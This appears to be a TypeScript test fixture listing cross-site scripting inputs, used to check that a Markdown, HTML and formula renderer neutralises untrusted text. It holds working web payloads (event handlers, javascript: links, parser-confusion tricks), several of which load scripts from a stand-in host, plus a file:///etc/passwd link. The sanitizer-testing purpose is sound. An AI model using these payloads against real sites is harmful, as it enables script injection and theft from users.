/**
 * Texts that would run, load or lead somewhere if anything took them for markup. What runs sets `window.ran`; what loads or
 * leads asks 192.0.2.1, an address that nobody has. A plain table: the unit tests and the tests in a real browser share it.
 */

export interface XssCase {
  readonly name: string;
  readonly text: string;
}

export const xssCases: readonly XssCase[] = [
  { name: 'a script', text: '<script>window.ran=1</script>' },
  { name: 'a script by address', text: '<script src="//192.0.2.1/x.js"></script>' },
  { name: 'a script in odd letters', text: '<ScRiPt/x>window.ran=1</sCrIpT >' },
  { name: 'a script cut in two', text: '<scr<script>ipt>window.ran=1</scr</script>ipt>' },
  { name: 'a script without an end', text: '<script>window.ran=1' },
  { name: 'a script out of a comment', text: '<!--><script>window.ran=1</script>-->' },
  { name: 'a script out of CDATA', text: '<![CDATA[<script>window.ran=1</script>]]>' },
  { name: 'a processing instruction', text: '<?xml-stylesheet href="javascript:window.ran=1"?>' },
  {
    name: 'closing every element around',
    text: '</p></div></textarea></title></style></noscript><script>window.ran=1</script>',
  },
  { name: 'an attribute broken out of', text: '"><img src=x onerror=window.ran=1>' },
  { name: 'a single-quoted one', text: "' onmouseover='window.ran=1" },
  { name: 'a picture', text: '<img src=x onerror="window.ran=1">' },
  { name: 'a picture without spaces', text: '<img/src=x/onerror=window.ran=1>' },
  { name: 'a picture with a line break', text: '<img src=x\nonerror=window.ran=1>' },
  { name: 'a picture half open', text: '<img src=x onerror=window.ran=1//' },
  { name: 'a picture that loads', text: '<img src="http://192.0.2.1/p.png">' },
  { name: 'a set of pictures', text: '<img srcset="http://192.0.2.1/p.png 1x">' },
  { name: 'a drawing', text: '<svg onload="window.ran=1">' },
  { name: 'a script in a drawing', text: '<svg><script>window.ran=1</script></svg>' },
  { name: 'a drawing that is animated', text: '<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>' },
  {
    name: 'a link in a drawing',
    text: '<svg><a xlink:href="javascript:window.ran=1"><text>press</text></a></svg>',
  },
  { name: 'a use of another file', text: '<svg><use href="http://192.0.2.1/x.svg#a"/></svg>' },
  { name: 'foreign content', text: '<svg><foreignObject><iframe srcdoc="<script>parent.ran=1</script>">' },
  { name: 'a frame', text: '<iframe src="javascript:parent.ran=1"></iframe>' },
  {
    name: 'a frame with a document',
    text: '<iframe srcdoc="&lt;script&gt;parent.ran=1&lt;/script&gt;"></iframe>',
  },
  { name: 'an object', text: '<object data="javascript:window.ran=1"></object>' },
  { name: 'an embedded one', text: '<embed src="javascript:window.ran=1">' },
  { name: 'a link', text: '<a href="javascript:window.ran=1">press</a>' },
  { name: 'a link with a tab inside', text: '<a href="java\tscript:window.ran=1">press</a>' },
  { name: 'a focus that comes by itself', text: '<input autofocus onfocus=window.ran=1>' },
  { name: 'a fold that opens', text: '<details open ontoggle=window.ran=1><summary>x</summary></details>' },
  { name: 'a film', text: '<video><source onerror=window.ran=1></video>' },
  { name: 'a sound', text: '<audio src=x onerror=window.ran=1>' },
  { name: 'a body', text: '<body onload=window.ran=1 onpageshow=window.ran=1>' },
  { name: 'a marquee', text: '<marquee onstart=window.ran=1>x</marquee>' },
  { name: 'a form', text: '<form action="http://192.0.2.1/"><button>press</button></form>' },
  { name: 'a button with an address', text: '<button formaction="javascript:window.ran=1">press</button>' },
  { name: 'a base address', text: '<base href="http://192.0.2.1/">' },
  { name: 'a redirect', text: '<meta http-equiv=refresh content="0;url=http://192.0.2.1/">' },
  { name: 'a style sheet', text: '<link rel=stylesheet href="http://192.0.2.1/x.css">' },
  { name: 'a style', text: '<style>@import "http://192.0.2.1/x.css"; body { display: none }</style>' },
  { name: 'a style of an element', text: '<div style="background:url(http://192.0.2.1/x)">x</div>' },
  {
    name: 'a named element that hides a global',
    text: '<a id=location href=//192.0.2.1>x</a><img name=cookie>',
  },
  {
    name: 'a parser that changes its mind',
    text: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">',
  },
  {
    name: 'a noscript that changes its mind',
    text: '<noscript><p title="</noscript><img src=x onerror=window.ran=1>">',
  },
  { name: 'a template', text: '<template><script>window.ran=1</script></template>' },
  {
    name: 'a component',
    text: '<x-y onclick=window.ran=1 tabindex=1 onfocus=window.ran=1 autofocus>x</x-y>',
  },
  {
    name: 'character references',
    text: '&lt;script&gt;window.ran=1&lt;/script&gt; &#60;script&#62;window.ran=1',
  },
  { name: 'a Markdown link', text: '[press](javascript:window.ran=1)' },
  { name: 'a Markdown link in odd letters', text: '[press](JaVaScRiPt:window.ran=1)' },
  { name: 'a Markdown link with a reference', text: '[press](javascript&colon;window.ran=1)' },
  { name: 'a Markdown link with a numeric reference', text: '[press](&#106;avascript:window.ran=1)' },
  { name: 'a Markdown link with an escape', text: '[press](java\\script:window.ran=1)' },
  { name: 'a Markdown link with a control character', text: '[press](<\u0001javascript:window.ran=1>)' },
  { name: 'a Markdown link with a tab', text: '[press](<java\tscript:window.ran=1>)' },
  { name: 'a Markdown link with a line break', text: '[press](<java\nscript:window.ran=1>)' },
  {
    name: 'a Markdown link to data',
    text: '[press](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)',
  },
  { name: 'a Markdown link to VBScript', text: '[press](vbscript:window.ran=1)' },
  { name: 'a Markdown link to a blob', text: '[press](blob:http://192.0.2.1/x)' },
  { name: 'a Markdown link to a file', text: '[press](file:///etc/passwd)' },
  {
    name: 'a Markdown link to this server',
    text: '[press](/api/status) [press](//192.0.2.1/x) [press](\\\\192.0.2.1\\x)',
  },
  {
    name: 'a Markdown title broken out of',
    text: '[press](https://example.org "x\\" onmouseover=\\"window.ran=1")',
  },
  { name: 'an address broken out of', text: '[press](https://example.org/"onmouseover="window.ran=1)' },
  { name: 'a Markdown reference', text: '[press][r]\n\n[r]: javascript:window.ran=1 "x"' },
  { name: 'an autolink', text: '<javascript:window.ran=1> <data:text/html,x>' },
  {
    name: 'an autolink broken out of',
    text: 'https://example.org/<script>window.ran=1</script> www.example.org/"onclick=1',
  },
  { name: 'a Markdown picture', text: '![x](javascript:window.ran=1) ![x](http://192.0.2.1/p.png)' },
  {
    name: 'a Markdown picture in a link',
    text: '[![press](http://192.0.2.1/p.png)](javascript:window.ran=1)',
  },
  {
    name: 'a footnote',
    text: 'x[^a]\n\n[^a]: <script>window.ran=1</script> [press](javascript:window.ran=1)',
  },
  { name: 'a footnote with a crafted name', text: 'x[^"onclick=1]\n\n[^"onclick=1]: y' },
  { name: 'a table', text: '| <script>window.ran=1</script> |\n|---|\n| [press](javascript:window.ran=1) |' },
  {
    name: 'a fence with a crafted language',
    text: '```html" onload=window.ran=1 x="\n<script>window.ran=1</script>\n```',
  },
  { name: 'a fence in a known language', text: '```python\nx = "<img src=x onerror=window.ran=1>"\n```' },
  {
    name: 'code in a line',
    text: '`<img src=x onerror=window.ran=1>` ``</code><script>window.ran=1</script>``',
  },
  {
    name: 'a formula with a link',
    text: '$\\href{javascript:window.ran=1}{press}$ $\\url{javascript:window.ran=1}$',
  },
  {
    name: 'a formula with attributes',
    text: '$\\htmlData{x=y}{a}$ $\\htmlId{a}{b}$ $\\htmlClass{c}{d}$ $\\htmlStyle{color:red}{e}$',
  },
  { name: 'a formula with a picture', text: '$\\includegraphics{http://192.0.2.1/p.png}$' },
  {
    name: 'a formula that is markup',
    text: '$<img src=x onerror=window.ran=1>$ $$\\text{<script>window.ran=1</script>}$$',
  },
  { name: 'a formula that does not parse and is markup', text: '$\\frac{<img src=x onerror=window.ran=1>$' },
  {
    name: 'a formula that grows',
    text: '$\\def\\a{\\b\\b\\b\\b}\\def\\b{\\c\\c\\c\\c}\\def\\c{\\d\\d\\d\\d}\\def\\d{\\a}\\a$',
  },
  { name: 'a formula of a mile', text: '$\\rule{99999em}{99999em}$ $\\kern{99999em}x$' },
  {
    name: 'other delimiters',
    text: '\\(\\href{javascript:window.ran=1}{press}\\) \\[<script>window.ran=1</script>\\]',
  },
  {
    name: 'templates of frameworks',
    text: '{{constructor.constructor("window.ran=1")()}} ${window.ran=1} #{window.ran=1} <%= 1 %>',
  },
  { name: 'letters that run the other way', text: '\u202e<script>window.ran=1</script>\u2066\u2028\u2029' },
  {
    name: 'a byte-order mark and full-width brackets',
    text: '\ufeff\uff1cscript\uff1ewindow.ran=1\uff1c/script\uff1e',
  },
  { name: 'a NUL', text: '<scr\u0000ipt>window.ran=1</scr\u0000ipt> [press](java\u0000script:window.ran=1)' },
  { name: 'half a character', text: '\ud800<script>window.ran=1</script>\udc00' },
  { name: 'keys of every object', text: '__proto__ constructor prototype toString' },
];
